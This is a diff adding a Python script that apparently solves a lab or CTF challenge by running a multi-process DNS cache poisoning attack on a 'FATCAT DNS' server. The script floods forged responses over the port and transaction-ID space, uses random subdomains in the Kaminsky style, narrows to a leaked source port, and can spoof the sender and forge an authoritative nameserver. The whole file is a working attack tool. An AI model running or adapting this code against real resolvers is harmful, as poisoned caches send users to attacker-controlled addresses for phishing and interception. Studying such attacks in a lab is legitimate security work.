@@ -0,0 +1,248 @@
+#!/usr/bin/env python3
+import argparse
+import multiprocessing as mp
+import queue
+import random
+import re
+import socket
+import time
+from typing import Any, Optional
+from utils import ResponseTemplate, RecordType, ResponseCode
+from sender import Address, get_sender
+
+SUCCESS_MARKER = "Cache polluted successfully"
+
+# ---------------------------
+# Work partitioning
+# ---------------------------
+def split_range(values: range, parts: int) -> list[range]:
+    """
+    Split a range into at most `parts` contiguous, nearly equal sub-ranges.
+    """
+    parts = max(1, min(parts, len(values)))
+    size, extra = divmod(len(values), parts)
+    chunks: list[range] = []
+    start: int = 0
+    for i in range(parts):
+        end: int = start + size + (1 if i < extra else 0)
+        chunks.append(values[start:end])
+        start = end
+    return chunks
+
+def partition(ports: range, tids: range, workers: int) -> list[tuple[range, range]]:
+    """
+    Split the (port x TID) space into one rectangle per worker.
+    The larger dimension is cut so every worker gets a similar share; when
+    there are fewer ports than workers, TIDs are split instead.
+    """
+    if len(ports) >= workers:
+        return [(chunk, tids) for chunk in split_range(ports, workers)]
+    return [(ports, chunk) for chunk in split_range(tids, workers)]
+
+# ---------------------------
+# Workers
+# ---------------------------
+def _worker(
+    worker_id: int,
+    target_ip: str,
+    ports: range,
+    tids: range,
+    template: ResponseTemplate,
+    bind: Optional[Address],
+    stop_event: Any,
+    deadline: Optional[float],
+    results: Any,
+):
+    """
+    Repeatedly send one packet per TID in `tids` to every port in `ports`
+    until the stop event fires or the deadline passes.
+    The worker owns its socket (get_sender is per process) and its batch.
+    """
+    sender = None
+    rounds: int = 0
+    try:
+        sender = get_sender(bind=bind)
+        batch = template.batch(tids)
+        while not stop_event.is_set() and (deadline is None or time.time() < deadline):
+            for port in ports:
+                if stop_event.is_set():
+                    break
+                sender.send_batch(batch, (target_ip, port))
+            rounds += 1
+    except KeyboardInterrupt:
+        pass
+    finally:
+        # always report, even when an error is about to propagate, so join() never waits for nothing
+        if sender is None:
+            results.put((worker_id, 0, 0.0))
+        else:
+            print(f"[worker {worker_id}] ports {ports[0]}-{ports[-1]} "
+                  f"TIDs {tids[0]}-{tids[-1]}: {rounds} rounds, {sender.report()}", flush=True)
+            results.put((worker_id, sender.sent, sender.elapsed))
+
+class SweepEngine:
+    """
+    Flood forged responses over the whole (port range x TID range) space
+    with a pool of processes sharing one stop event.
+    """
+
+    def __init__(
+        self,
+        target_ip: str,
+        ports: range,
+        tids: range,
+        template: ResponseTemplate,
+        workers: int = mp.cpu_count(),
+        bind: Optional[Address] = None,
+        duration: Optional[float] = None,
+    ):
+        self.target_ip: str = target_ip
+        self.template: ResponseTemplate = template
+        self.bind: Optional[Address] = bind
+        self.duration: Optional[float] = duration
+        self.shards: list[tuple[range, range]] = partition(ports, tids, workers)
+        self.stop_event = mp.Event()
+        self.results: Any = mp.Queue()
+        self.processes: list[mp.Process] = []
+
+    def start(self):
+        deadline: Optional[float] = time.time() + self.duration if self.duration else None
+        for worker_id, (ports, tids) in enumerate(self.shards):
+            process = mp.Process(
+                target=_worker,
+                args=(worker_id, self.target_ip, ports, tids, self.template,
+                      self.bind, self.stop_event, deadline, self.results),
+                daemon=True
+            )
+            process.start()
+            self.processes.append(process)
+
+    def stop(self):
+        self.stop_event.set()
+
+    def join(self, poll: float = 1.0) -> tuple[int, float]:
+        """
+        Wait for every worker; returns (total packets, aggregate packets/s).
+        Workers that died without reporting (e.g. killed) count as 0 packets.
+        """
+        stats: list[tuple[int, int, float]] = []
+        while len(stats) < len(self.processes):
+            try:
+                stats.append(self.results.get(timeout=poll))
+            except queue.Empty:
+                if all(process.exitcode is not None for process in self.processes) and self.results.empty():
+                    print(f"[engine] {len(self.processes) - len(stats)} workers exited without reporting", flush=True)
+                    break
+        for process in self.processes:
+            process.join()
+        total: int = sum(sent for _, sent, _ in stats)
+        rate: float = sum(sent / elapsed for _, sent, elapsed in stats if elapsed > 0)
+        return total, rate
+
+# ---------------------------
+# TCP side: drive the FATCAT DNS and watch for success
+# ---------------------------
+def run_attack(
+    server: Address,
+    query: str,
+    response: dict[str, Any],
+    engine_args: dict[str, Any],
+    attempts: int = 10,
+) -> bool:
+    """
+    Send `query` ("<domain> <record_type>") to the FATCAT DNS over TCP while a
+    SweepEngine floods forged responses for that domain, and stop all workers
+    as soon as the server reports that the cache is polluted.
+    A "{n}" in the query is replaced by a fresh random number on every attempt
+    (random subdomains for Kaminsky's attack); the forged packets follow it.
+    Once the server prints the query's source port, the sweep is narrowed to
+    that single port with the TID range split across all workers.
+    """
+    conn = socket.create_connection(server)
+    reader = conn.makefile('r', encoding='utf-8', errors='replace', newline='\n')
+    try:
+        for attempt in range(attempts):
+            line: str = query.replace('{n}', str(random.randrange(1 << 30)))
+            domain, qtype = line.split()
+            template = ResponseTemplate(domain=domain, qtype=RecordType[qtype.upper()], **response)
+            engine = SweepEngine(template=template, **engine_args)
+
+            print(f"[attempt {attempt + 1}] query: {line}")
+            engine.start()
+            conn.sendall(line.encode() + b'\n')
+            try:
+                # read until this query is answered (response or timeout)
+                while True:
+                    output: str = reader.readline()
+                    if not output:
+                        return False
+                    output = output.strip()
+                    print(f"Server: {output}")
+                    if SUCCESS_MARKER in output:
+                        return True
+                    port: int = extract_port(output)
+                    if port != -1 and len(engine.shards[0][0]) > 1:
+                        engine.stop()
+                        engine.join()
+                        engine = SweepEngine(template=template, **{**engine_args, 'ports': range(port, port + 1)})
+                        engine.start()
+                    if 'DNS Response' in output or 'TIMEOUT' in output:
+                        break
+            finally:
+                engine.stop()
+                total, rate = engine.join()
+                print(f"Sent {total} packets, {rate:,.0f} packets/s across {len(engine.shards)} workers")
+    finally:
+        conn.close()
+    return False
+
+def extract_port(output: str) -> int:
+    """Extract source port from server output"""
+    match = re.search(r'source port (\d+)', output)
+    return int(match.group(1)) if match else -1
+
+def parse_range(text: str) -> range:
+    low, _, high = text.partition('-')
+    return range(int(low), int(high or low) + 1)
+
+def main():
+    parser = argparse.ArgumentParser(description="Multi-process TID x port sweep against a FATCAT DNS")
+    parser.add_argument('--server', default='127.0.0.1', help='FATCAT DNS host (TCP side and UDP target)')
+    parser.add_argument('--tcp-port', type=int, default=48765, help='48765 for server-a, 48766 for server-b')
+    parser.add_argument('--ports', default='32768-60999', help='UDP source-port range of the resolver')
+    parser.add_argument('--tids', default='0-255', help='TID range (0-65535 for server-b)')
+    parser.add_argument('--workers', type=int, default=mp.cpu_count())
+    parser.add_argument('--query', default='www.google.com A',
+                        help='"<domain> <record_type>"; use {n} for a random label, e.g. "x{n}.google.com A"')
+    parser.add_argument('--answer', default='11.4.5.14')
+    parser.add_argument('--ttl', type=int, default=600)
+    parser.add_argument('--auth-ip', default=None, help='forged authoritative nameserver (server-b)')
+    parser.add_argument('--bind', default=None, help='ip:port to send from, e.g. the real resolver address')
+    parser.add_argument('--attempts', type=int, default=10)
+    args = parser.parse_args()
+
+    response: dict[str, Any] = {
+        'rcode': ResponseCode.NOERROR,
+        'answer': args.answer,
+        'ttl': args.ttl,
+        'auth_ip': args.auth_ip
+    }
+    bind: Optional[Address] = None
+    if args.bind:
+        host, _, port = args.bind.rpartition(':')
+        bind = (host, int(port))
+
+    engine_args: dict[str, Any] = {
+        'target_ip': args.server,
+        'ports': parse_range(args.ports),
+        'tids': parse_range(args.tids),
+        'workers': args.workers,
+        'bind': bind
+    }
+    if run_attack((args.server, args.tcp_port), args.query, response, engine_args, args.attempts):
+        print("*** CACHE POISONING SUCCESSFUL! ***")
+    else:
+        print("Attack finished without success")
+
+if __name__ == "__main__":
+    main()